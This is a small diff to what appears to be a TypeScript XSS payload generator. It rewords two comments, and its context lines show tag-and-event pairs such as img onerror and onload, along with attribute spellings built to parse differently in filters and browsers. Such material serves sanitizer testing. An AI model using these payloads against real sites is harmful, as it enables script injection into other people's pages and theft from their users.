@@ -1,6 +1,6 @@
 import { enemy, entities, type Recipe, zap } from "./payload.ts";
 
-/** Elements that run a handler by themselves, or when somebody points at them, clicks or types. */
+/** Elements that run a handler by themselves, or on hover, click or input. */
 const tags: readonly (readonly [tag: string, event: string])[] = [
   ["img src=x", "onerror"],
   ["img src=data:image/gif;base64,R0lGODlhAQABAAAAACw=", "onload"],
@@ -58,7 +58,7 @@ const tags: readonly (readonly [tag: string, event: string])[] = [
   ["xss-element", "onclick"],
 ];
 
-/** Ways to write an attribute that a filter reads differently from a browser. */
+/** Spellings of an attribute that a filter and a browser parse differently. */
 const spellings: readonly Recipe[] = [
   (mark) => `<img src=x onerror="${zap(mark)}">`,
   (mark) => `<img src=x onerror='${zap(mark)}'>`,
